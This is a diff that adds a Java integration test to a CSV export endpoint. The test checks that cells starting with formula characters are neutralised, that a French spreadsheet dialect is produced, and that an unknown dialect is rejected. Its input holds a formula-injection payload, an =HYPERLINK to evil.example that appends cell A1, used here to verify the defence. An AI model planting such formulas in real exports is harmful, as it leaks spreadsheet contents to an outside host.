@@ -170,6 +170,35 @@ class ResearchCypherIT {
 	}
 
 	@Test
+	void neutralisesFormulaLeadingCellsInCsvAndWritesTheSpreadsheetDialectOnRequest() {
+		ResponseEntity<String> response = this.http.post()
+			.uri("/api/cypher?dialecte=tableur")
+			.contentType(MediaType.APPLICATION_JSON)
+			.accept(MediaType.parseMediaType("text/csv"))
+			.body(Map.of("query",
+					"RETURN '=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Cliquez\")' AS nom, "
+							+ "'=1+2' AS role, '+1', '-1+1', '@x', -2.5 AS n"))
+			.retrieve()
+			.toEntity(String.class);
+		assertThat(response.getStatusCode().value()).isEqualTo(200);
+		assertThat(response.getBody()).isEqualTo("\uFEFFnom;role;'+1';'-1+1';'@x';n\r\n"
+				+ "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Cliquez\"\")\";'=1+2;+1;'-1+1;'@x;-2,5\r\n");
+		ResponseEntity<String> saved = this.http.get()
+			.uri("/api/queries/membres_par_annee?dialecte=tableur")
+			.accept(MediaType.parseMediaType("text/csv"))
+			.retrieve()
+			.toEntity(String.class);
+		assertThat(saved.getBody()).startsWith("\uFEFFannee;groupe;nombre;metropoles\r\n2024;agents;15;");
+		ResponseEntity<String> unknown = this.http.get()
+			.uri("/api/queries/membres_par_annee?dialecte=excel")
+			.accept(MediaType.parseMediaType("text/csv"))
+			.retrieve()
+			.toEntity(String.class);
+		assertThat(unknown.getStatusCode().value()).isEqualTo(400);
+		assertThat(unknown.getBody()).contains("Dialecte CSV inconnu");
+	}
+
+	@Test
 	void answersProblemDetailsEvenWhenCsvWasAsked() {
 		ResponseEntity<String> response = this.http.post()
 			.uri("/api/cypher")
